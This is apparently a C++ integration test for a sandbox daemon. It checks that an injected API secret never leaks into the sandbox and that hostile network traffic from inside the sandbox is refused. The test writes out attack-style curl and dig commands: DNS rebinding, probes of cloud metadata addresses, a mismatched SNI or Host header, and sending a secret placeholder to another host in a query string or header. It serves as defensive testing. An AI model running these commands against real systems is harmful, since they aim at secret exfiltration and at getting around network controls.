// The seed's scenario of issue #12, end to end through a real hutchd (root): a recipe whose
// setup.sh pip-installs a package from a PEP 503 index through the engine (the bake's own
// policy), then a sandbox of that recipe whose policy allows only an HTTPS "LLM API" with an
// inject rule, and an agent script in it that imports the package and POSTs to the API with
// `Authorization: Bearer $OPENAI_API_KEY` (the placeholder). The API gets the real secret, the
// agent gets the API's answer, and the secret is nowhere the sandbox can reach: no environment,
// no file of its tree, no byte of its processes' memory (read from the host while the agent is
// alive after its call), no reply or log of hutchd. Then the hostile traffic of the issue that
// no other test sends from inside a real sandbox through hutchd (see HostileTrafficIsRefused).
//
// U (tests/common/upstream_netns.h) is the only place packets go: python3's http.server on port
// 80 serving the index, and an HTTPS API on port 443 (a certificate for api.test from a CA of
// the test's own, which hutchd trusts by --net-upstream-ca) started in U's namespace. The secret
// is random, made at the start of each test and given to hutchd by PUT /v1/secrets only: it is
// on no disk, so finding it anywhere is a leak.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include "runtime/base/unique_fd.h"
#include "tests/common/command.h"
#include "tests/common/dir_search.h"
#include "tests/common/hutchd.h"
#include "tests/common/memory_scan.h"
#include "tests/common/must_work.h"
#include "tests/common/processes.h"
#include "tests/common/python_index.h"
#include "tests/common/temp_dir.h"
#include "tests/common/upstream_netns.h"
#include "tests/common/wait.h"
#include "tests/daemon/upstream_certificate.h"

namespace hutch::testing {
namespace {

using namespace std::chrono_literals;

// The package on the index: a client of the API, as an agent's SDK would be.
const char* kClientModule = R"py(import json, os, urllib.request

def chat(prompt):
    body = json.dumps({"model": "seed", "messages": [{"role": "user", "content": prompt}]})
    request = urllib.request.Request(
        "https://api.test/v1/chat/completions", data=body.encode(), method="POST",
        headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
                 "Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=20) as response:
        return json.load(response)["choices"][0]["message"]["content"]
)py";

// The API: POST answers a chat completion when the Authorization header is the one whose SHA-256
// it was given (so the expected value is on no disk either), 401 otherwise; each request's
// method, path and the SHA-256 of its Authorization are appended to the log.
const char* kApiServer = R"py(
import hashlib, http.server, json, ssl, sys
log_path, expected, cert, key = sys.argv[1:5]
class Api(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        seen = hashlib.sha256(self.headers.get("Authorization", "").encode()).hexdigest()
        with open(log_path, "a") as log:
            log.write(f"{self.command} {self.path} {seen}\n")
        if seen == expected:
            prompt = json.loads(body)["messages"][-1]["content"]
            status, answer = 200, {"choices": [{"message": {"role": "assistant",
                                                            "content": "echo: " + prompt}}]}
        else:
            status, answer = 401, {"error": {"message": "invalid api key"}}
        data = json.dumps(answer).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *args):
        pass
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
server = http.server.ThreadingHTTPServer(("0.0.0.0", 443), Api)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
)py";

// The agent: imports the package the recipe installed, calls the API, prints the answer, then
// stays alive (its memory holding whatever the call left there) until /tmp/agent-release exists.
const char* kAgent = R"py(
import os, sys, time
import hutchllm
print(hutchllm.chat("hello from the seed"), flush=True)
while not os.path.exists("/tmp/agent-release"):
    time.sleep(0.05)
)py";

std::string slurp(const std::string& path) { return read_file_or_empty(path); }

std::string random_secret() {
  unsigned char bytes[16];
  std::ifstream("/dev/urandom", std::ios::binary)
      .read(reinterpret_cast<char*>(bytes), sizeof bytes);
  std::string secret = "sk-seed-";
  char hex[3];
  for (unsigned char byte : bytes) {
    std::snprintf(hex, sizeof hex, "%02x", byte);
    secret += hex;
  }
  return secret;
}

std::string sha256_hex(std::string_view text) {
  unsigned char digest[EVP_MAX_MD_SIZE];
  unsigned int size = 0;
  EVP_Digest(text.data(), text.size(), digest, &size, EVP_sha256(), nullptr);
  std::string hex;
  char pair[3];
  for (unsigned int i = 0; i < size; ++i) {
    std::snprintf(pair, sizeof pair, "%02x", digest[i]);
    hex += pair;
  }
  return hex;
}

// The regular files under `root` (not following symlinks; /proc and /sys skipped) whose inode
// changed at or after `since`, holding `needle`. Every file that can hold a secret made at
// `since` changed after it; the rest of a host-rootfs tree is the host's, gigabytes of it.
std::vector<std::string> files_holding(const std::string& root, std::string_view needle,
                                       std::time_t since, int* checked) {
  std::vector<std::string> found;
  std::error_code error;
  std::filesystem::recursive_directory_iterator it(
      root, std::filesystem::directory_options::skip_permission_denied, error);
  for (; !error && it != std::filesystem::recursive_directory_iterator(); it.increment(error)) {
    const std::string path = it->path().string();
    if (it.depth() == 0 && (path == root + "/proc" || path == root + "/sys")) {
      it.disable_recursion_pending();
      continue;
    }
    struct stat st {};
    if (::lstat(path.c_str(), &st) != 0 || !S_ISREG(st.st_mode) || st.st_ctime < since) continue;
    ++*checked;
    if (slurp(path).find(needle) != std::string::npos) found.push_back(path);
  }
  // A walk cut short proves nothing: it fails the test as a finding would.
  if (error) found.push_back("walk of " + root + " stopped: " + error.message());
  return found;
}

std::vector<json> ndjson(const std::string& text) {
  std::vector<json> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    json parsed = json::parse(line, nullptr, false);
    if (parsed.is_object()) lines.push_back(std::move(parsed));
  }
  return lines;
}

// A string field of a reply or log line, "" when it is absent or null (a DNS line has no
// address).
std::string text(const json& line, const char* key) {
  if (!line.is_object()) return "";
  const auto it = line.find(key);
  return it != line.end() && it->is_string() ? it->get<std::string>() : "";
}

json inject_policy(const json& allow) {
  return {{"mode", "filtered"},
          {"allow", allow},
          {"inject",
           {{{"match_hosts", {"api.test"}},
             {"method", "POST"},
             {"path_prefix", "/v1/"},
             {"headers",
              {{"Authorization", {{"secret", "OPENAI_API_KEY"}, {"prefix", "Bearer "}}}}}}}}};
}

class SeedScenario : public ::testing::Test {
 protected:
  void SetUp() override {
    HUTCH_REQUIRE_ROOT();
    for (const char* tool : {"/usr/bin/curl", "/usr/bin/dig", "/usr/bin/python3",
                             "/usr/bin/unshare", "/usr/bin/nsenter"})
      HUTCH_REQUIRE(::access(tool, X_OK) == 0, std::string("needs ") + tool);
    HUTCH_REQUIRE(run_command({"/usr/bin/python3", "-m", "pip", "--version"}).exit_code == 0,
                  "needs Debian's python3-pip");
    HUTCH_REQUIRE(::access("/etc/ssl/certs/ca-certificates.crt", R_OK) == 0,
                  "needs the host's CA bundle (ca-certificates)");
    ::setenv("HUTCH_TEST_NET", "1", 1);
    started_ = std::time(nullptr) - 1;
    secret_ = random_secret();

    const std::string pub = temp_.path() + "/pub";
    CommandOptions options;
    options.env = {"PATH=/usr/bin:/bin", "HOME=" + temp_.path(), "PUB=" + pub};
    auto built = run_command(
        {"/bin/sh", "-c", "set -eu\n" + publish_wheel_sh("hutchllm", kClientModule)}, options);
    ASSERT_EQ(built.exit_code, 0) << built.out << built.err;
    ASSERT_NO_FATAL_FAILURE(start_upstream_netns(pub, index_));
    start_api();

    std::vector<std::string> args = {
        "--destroy-on-exit", "--net-upstream-netns", index_->netns(),        "--net-upstream-ca",
        upstream_ca_,        "--net-resolve",        "rebind.test=127.0.0.1"};
    for (const char* name : {"api.test", "pypi.test", "mirror.test"}) {
      args.push_back("--net-resolve");
      args.push_back(std::string(name) + "=198.51.100.10");
    }
    daemon_ = std::make_unique<Hutchd>(temp_.path(), args);
    ASSERT_TRUE(daemon_->start()) << daemon_->log();
    ASSERT_EQ(call(daemon_->put("/v1/secrets/OPENAI_API_KEY", secret_)).status, 204);
  }
  void TearDown() override {
    if (daemon_) daemon_->delete_sandboxes_and_stop();
    ::unsetenv("HUTCH_TEST_NET");
  }

  // The API on 0.0.0.0:443 in U's namespace, with a certificate for api.test.
  void start_api() {
    UpstreamCertificate certificate;
    ASSERT_NO_FATAL_FAILURE(write_upstream_certificate(temp_.path(), "api", "seed test upstream",
                                                       "api.test", certificate));
    upstream_ca_ = certificate.ca;
    std::ofstream(temp_.path() + "/api.py") << kApiServer;
    api_log_ = temp_.path() + "/api.log";
    api_ = std::make_unique<BackgroundCommand>(
        std::vector<std::string>{"/usr/bin/nsenter", "--net=" + index_->netns(), "/usr/bin/python3",
                                 temp_.path() + "/api.py", api_log_,
                                 sha256_hex("Bearer " + secret_), certificate.cert,
                                 certificate.key},
        temp_.path() + "/api.err");
    ASSERT_GT(api_->pid(), 0);
    ASSERT_TRUE(wait_until(
        [&] {
          std::istringstream tcp(slurp("/proc/" + std::to_string(index_->pid()) + "/net/tcp"));
          for (std::string line; std::getline(tcp, line);)
            if (line.find("00000000:01BB 00000000:0000 0A") != std::string::npos) return true;
          return false;
        },
        10s, "the API's https server"))
        << slurp(temp_.path() + "/api.err");
  }

  // Every reply of hutchd passes here: none may hold the secret.
  Hutchd::Reply call(Hutchd::Reply reply) {
    replies_ += reply.raw;
    replies_ += '\n';
    return reply;
  }

  // `command` under sh -c in the sandbox: exit code and output (stdout and stderr).
  std::pair<int, std::string> run(const std::string& id, const std::string& command) {
    auto reply =
        call(daemon_->post("/v1/sandboxes/" + id + "/exec",
                           {{"command", "{ " + command + "\n} 2>&1"}, {"timeout_seconds", 120}}));
    EXPECT_EQ(reply.status, 200) << reply.raw;
    return {reply.body.value("exit_code", -1), reply.body.value("stdout", "")};
  }

  std::vector<json> network_log(const std::string& id) {
    return ndjson(call(daemon_->get("/v1/sandboxes/" + id + "/network/log")).raw);
  }

  int index_requests() const {
    int count = 0;
    std::istringstream log(index_->log());
    for (std::string line; std::getline(log, line);)
      if (line.find("GET /simple/") != std::string::npos) ++count;
    return count;
  }

  TempDir temp_;
  std::time_t started_ = 0;
  std::string secret_, upstream_ca_, api_log_, replies_;
  std::unique_ptr<UpstreamNetns> index_;
  std::unique_ptr<BackgroundCommand> api_;
  std::unique_ptr<Hutchd> daemon_;
};

TEST_F(SeedScenario, RecipeInstallsFromTheIndexAndTheAgentReachesTheApiWithoutTheSecret) {
  // The recipe: setup.sh installs hutchllm from the index, under the bake's own policy.
  const std::string recipe = temp_.path() + "/seed-recipe";
  std::filesystem::create_directories(recipe);
  std::ofstream(recipe + "/setup.sh")
      << "set -e\n"
         "python3 -m pip install --no-cache-dir --disable-pip-version-check "
         "--break-system-packages --trusted-host pypi.test --index-url http://pypi.test/simple/ "
         "hutchllm\n"
         "python3 -c 'import hutchllm'\n";
  std::ofstream(recipe + "/recipe.json")
      << json({{"network", {{"mode", "filtered"}, {"allow", {"pypi.test"}}}}}).dump();
  auto baked = call(daemon_->post("/v1/recipes", {{"dir", recipe}, {"name", "seed"}}));
  ASSERT_EQ(baked.status, 201) << baked.raw;
  EXPECT_GE(index_requests(), 1) << index_->log();
  EXPECT_NE(index_->log().find("GET /files/hutchllm-1.0-py3-none-any.whl"), std::string::npos)
      << index_->log();
  EXPECT_NE(daemon_->log().find("net=http allowed=true name=pypi.test"), std::string::npos)
      << "the bake's fetches are the engine's decisions";

  // The sandbox: the API with an inject rule, and not the index.
  auto created = call(daemon_->post(
      "/v1/sandboxes", {{"recipe", "seed"}, {"network", inject_policy({"api.test"})}}));
  ASSERT_EQ(created.status, 201) << created.raw;
  const std::string id = created.body["id"];
  const pid_t init = created.body["init_pid"];
  auto network = call(daemon_->get("/v1/sandboxes/" + id + "/network"));
  ASSERT_EQ(network.status, 200) << network.raw;
  const std::string placeholder = network.body["placeholders"].value("OPENAI_API_KEY", "");
  ASSERT_TRUE(placeholder.starts_with("hutch-placeholder-OPENAI_API_KEY-")) << network.raw;

  // The bake's policy is not inherited: the index is denied, by name and by address.
  const int fetched = index_requests();
  auto [pip_exit, pip_out] =
      run(id,
          "python3 -m pip download -q --no-cache-dir --disable-pip-version-check --retries 0 "
          "--timeout 5 --trusted-host pypi.test --index-url http://pypi.test/simple/ -d /tmp/dl "
          "hutchllm");
  EXPECT_NE(pip_exit, 0) << pip_out;
  EXPECT_NE(run(id, "curl -sS --max-time 10 http://pypi.test/simple/")
                .second.find("Could not resolve host"),
            std::string::npos);
  EXPECT_NE(run(id, "curl -sS --max-time 10 http://198.51.100.10/simple/hutchllm/")
                .second.find("\"network_denied\""),
            std::string::npos);
  EXPECT_EQ(index_requests(), fetched) << index_->log();

  // The agent, in the background: it stays alive after its call until released.
  ASSERT_EQ(call(daemon_->put("/v1/sandboxes/" + id + "/files?path=/root/agent.py", kAgent)).status,
            200);
  auto agent = call(daemon_->post("/v1/sandboxes/" + id + "/exec",
                                  {{"argv", {"python3", "/root/agent.py"}}, {"background", true}}));
  ASSERT_EQ(agent.status, 201) << agent.raw;
  const std::string output = "/v1/sandboxes/" + id + "/processes/" +
                             std::to_string(agent.body["pid"].get<int>()) + "/output";
  std::string answer;
  ASSERT_TRUE(wait_until(
      [&] {
        answer = text(call(daemon_->get(output + "?stream=stdout")).body, "data");
        return !answer.empty() ||
               !text(call(daemon_->get(output + "?stream=stderr")).body, "data").empty();
      },
      60s, "the agent's answer"))
      << call(daemon_->get(output + "?stream=stderr")).raw;
  EXPECT_EQ(answer, "echo: hello from the seed\n")
      << call(daemon_->get(output + "?stream=stderr")).raw;
  EXPECT_EQ(slurp(api_log_), "POST /v1/chat/completions " + sha256_hex("Bearer " + secret_) + "\n")
      << "the API got the real secret, once";

  // The sandbox's processes, read from the host while the agent is alive: the placeholder and
  // the answer are in the agent's memory (the scan works), the secret in no one's.
  const std::vector<pid_t> pids = pid_ns_processes(init);
  bool agent_seen = false;
  for (pid_t pid : pids) {
    const std::string cmdline = slurp("/proc/" + std::to_string(pid) + "/cmdline");
    EXPECT_EQ(slurp("/proc/" + std::to_string(pid) + "/environ").find(secret_), std::string::npos)
        << pid << " " << cmdline;
    const MemoryScan scan = scan_memory(pid, secret_);
    EXPECT_FALSE(scan.found) << "the secret in the memory of " << pid << " " << cmdline;
    if (cmdline.find("/root/agent.py") == std::string::npos) continue;
    agent_seen = true;
    EXPECT_GT(scan.bytes, 1u << 20) << "the agent's memory was read";
    EXPECT_TRUE(scan_memory(pid, placeholder).found) << "the placeholder it sent";
    EXPECT_TRUE(scan_memory(pid, "echo: hello from the seed").found) << "the answer it got";
  }
  EXPECT_TRUE(agent_seen) << pids.size() << " processes in the sandbox";
  auto [env_exit, environments] = run(id, "cat /proc/[0-9]*/environ | tr '\\0' '\\n'");
  EXPECT_NE(environments.find("OPENAI_API_KEY=" + placeholder), std::string::npos) << environments;
  EXPECT_EQ(environments.find(secret_), std::string::npos);

  // Its files: the merged root as the host sees it (what the recipe and the sandbox wrote, the
  // trust bundle and CA hutchd wrote under /etc/hutch), and the bundle read from inside.
  int checked = 0;
  const std::string root = "/proc/" + std::to_string(init) + "/root";
  EXPECT_EQ(files_holding(root, secret_, started_, &checked), std::vector<std::string>{});
  EXPECT_GT(checked, 0);
  EXPECT_NE(slurp(root + "/etc/hutch/ca-bundle.pem").find("BEGIN CERTIFICATE"), std::string::npos);
  auto [bundle_exit, bundle] = run(id, "cat /etc/hutch/*");
  EXPECT_EQ(bundle_exit, 0) << bundle;
  EXPECT_EQ(bundle.find(secret_), std::string::npos);

  ASSERT_EQ(run(id, "touch /tmp/agent-release").first, 0);
  auto ended = call(daemon_->post("/v1/sandboxes/" + id + "/processes/" +
                                      std::to_string(agent.body["pid"].get<int>()) +
                                      "/wait?timeout_seconds=30",
                                  json::object()));
  EXPECT_EQ(ended.body["exit_code"], 0) << ended.raw;

  // The decision: allowed, the header injected named, its value nowhere.
  json decision;
  ASSERT_TRUE(wait_until(
      [&] {
        for (const json& line : network_log(id))
          if (text(line, "name") == "api.test" && line.value("port", 0) == 443) decision = line;
        return decision.is_object();
      },
      10s, "the API call's decision"));
  EXPECT_EQ(decision["allowed"], true) << decision.dump();
  EXPECT_EQ(decision["protocol"], "tls") << decision.dump();
  EXPECT_NE(text(decision, "reason").find("injected Authorization"), std::string::npos)
      << decision.dump();
  EXPECT_GT(decision.value("bytes_up", 0), 0) << decision.dump();
  EXPECT_GT(decision.value("bytes_down", 0), 0) << decision.dump();
  call(daemon_->get("/v1/sandboxes/" + id));
  call(daemon_->get("/metrics"));
  call(daemon_->get("/v1/secrets"));
  EXPECT_EQ(replies_.find(secret_), std::string::npos) << "a reply of hutchd";
  EXPECT_EQ(daemon_->log().find(secret_), std::string::npos) << "hutchd's log";
  EXPECT_FALSE(tree_holds(daemon_->state_dir(), secret_)) << "hutchd's state dir";
}

// The hostile list of issue #12, from inside a real sandbox through hutchd, for what no other
// test sends that way (IP literals over HTTP, metadata, `dig @8.8.8.8` over UDP, other UDP and
// the root's `nft flush ruleset` are in network_test.cc; a placeholder outside its rule's path in
// inject_test.cc). Each denial is immediate, and logged.
TEST_F(SeedScenario, HostileTrafficIsRefused) {
  auto created = call(daemon_->post(
      "/v1/sandboxes", {{"network", inject_policy({"api.test", "mirror.test", "rebind.test"})}}));
  ASSERT_EQ(created.status, 201) << created.raw;
  const std::string id = created.body["id"];
  const auto started = std::chrono::steady_clock::now();
  auto curl = [&](const std::string& args) {
    return run(id, "curl -sS --max-time 10 " + args + "; echo \" rc=$?\"").second;
  };
  ASSERT_NE(curl("http://mirror.test/").find("Directory listing"), std::string::npos)
      << "the allowed name works";

  // A name the policy allows, rebound to 127.0.0.1 by its resolver: refused after the lookup.
  const std::string rebound = curl("-w ' %{http_code}' http://rebind.test/");
  EXPECT_NE(rebound.find("\"rule\":\"rebinding\""), std::string::npos) << rebound;
  EXPECT_NE(rebound.find(" 403 rc=0"), std::string::npos) << rebound;

  // IPv6: a literal no rule allows, the metadata address in IPv6 forms, DNS to an IPv6 resolver,
  // other UDP over IPv6.
  const std::string literal6 = curl("-g -w ' %{http_code}' 'http://[2001:db8::10]/'");
  EXPECT_NE(literal6.find("\"network_denied\""), std::string::npos) << literal6;
  EXPECT_NE(literal6.find(" 403 rc=0"), std::string::npos) << literal6;
  for (const char* metadata :
       {"::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd00:ec2::254"}) {
    const std::string refused = curl("-g 'http://[" + std::string(metadata) + "]/'");
    EXPECT_NE(refused.find("rc=7"), std::string::npos) << metadata << ": " << refused;
  }
  EXPECT_NE(run(id, "dig +time=3 +tries=1 @2001:4860:4860::8888 evil.test")
                .second.find("status: NXDOMAIN"),
            std::string::npos);
  EXPECT_NE(run(id,
                "python3 -c \"import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); "
                "s.sendto(b'x', ('2001:db8::10', 9999))\"")
                .second.find("Operation not permitted"),
            std::string::npos);
  // DNS over TCP to a public resolver is the stub's too.
  EXPECT_NE(run(id, "dig +tcp +time=3 +tries=1 @8.8.8.8 evil.test").second.find("status: NXDOMAIN"),
            std::string::npos);

  // Names that disagree: an SNI unlike the name the fake address was given for; a Host unlike
  // it; a Host unlike the SNI inside the terminated TLS of the API; TLS to an IP literal with no
  // SNI, and with a name no rule allows.
  auto [dig_exit, fake] = run(id, "dig +short +time=3 +tries=1 mirror.test");
  while (!fake.empty() && fake.back() == '\n') fake.pop_back();
  ASSERT_TRUE(fake.starts_with("198.1")) << fake;
  const std::string sni = curl("--resolve api.test:443:" + fake + " https://api.test/v1/x");
  EXPECT_NE(sni.find("Connection reset by peer"), std::string::npos) << sni;
  const std::string host = curl("-H 'Host: api.test' http://mirror.test/");
  EXPECT_NE(host.find("names disagree"), std::string::npos) << host;
  const std::string inner = curl("-H 'Host: mirror.test' https://api.test/v1/x");
  EXPECT_NE(inner.find("is not the TLS server name"), std::string::npos) << inner;
  const std::string no_sni = curl("-k https://198.51.100.10/");
  EXPECT_NE(no_sni.find("Connection reset by peer"), std::string::npos) << no_sni;
  const std::string denied_sni =
      curl("-k --resolve evil.test:443:198.51.100.10 https://evil.test/");
  EXPECT_NE(denied_sni.find("Connection reset by peer"), std::string::npos) << denied_sni;

  // The placeholder sent to another host (an allowed one, in plain HTTP): refused, never sent.
  const std::string leaked = curl("\"http://mirror.test/?k=$OPENAI_API_KEY\"");
  EXPECT_NE(leaked.find("\"rule\":\"inject\""), std::string::npos) << leaked;
  const std::string header =
      curl("-H \"Authorization: Bearer $OPENAI_API_KEY\" http://mirror.test/");
  EXPECT_NE(header.find("\"rule\":\"inject\""), std::string::npos) << header;
  EXPECT_EQ(index_->log().find("hutch-placeholder-"), std::string::npos) << index_->log();
  EXPECT_EQ(slurp(api_log_), "") << "nothing reached the API";
  EXPECT_LT(std::chrono::steady_clock::now() - started, 60s * time_scale())
      << "denials are immediate, never a hang";

  // Each refusal is a denied line of the log, naming what decided it.
  const std::vector<json> log = network_log(id);
  auto denied = [&](const std::string& name, int port, const std::string& rule,
                    const std::string& reason) {
    for (const json& line : log) {
      if (line.value("allowed", true) == false && text(line, "name") == name &&
          line.value("port", 0) == port && text(line, "rule") == rule &&
          text(line, "reason").find(reason) != std::string::npos)
        return true;
    }
    return false;
  };
  EXPECT_TRUE(denied("rebind.test", 80, "rebinding", "refused by the floor: loopback"));
  EXPECT_TRUE(denied("", 80, "default", "no allow rule matches 2001:db8::10:80"));
  EXPECT_TRUE(denied("evil.test", 53, "default", "(over TCP)"));
  EXPECT_TRUE(denied("mirror.test", 443, "name", "names disagree: dns \"mirror.test\", sni"));
  EXPECT_TRUE(denied("mirror.test", 80, "name", "names disagree: dns \"mirror.test\", host"));
  EXPECT_TRUE(denied("api.test", 443, "name", "is not the TLS server name"));
  EXPECT_TRUE(denied("", 443, "default", "no allow rule matches 198.51.100.10:443"));
  EXPECT_TRUE(denied("evil.test", 443, "default", "no allow rule names evil.test"));
  EXPECT_TRUE(denied("mirror.test", 80, "inject", "the placeholder of secret OPENAI_API_KEY"));
  EXPECT_EQ(replies_.find(secret_), std::string::npos);
}

}  // namespace
}  // namespace hutch::testing
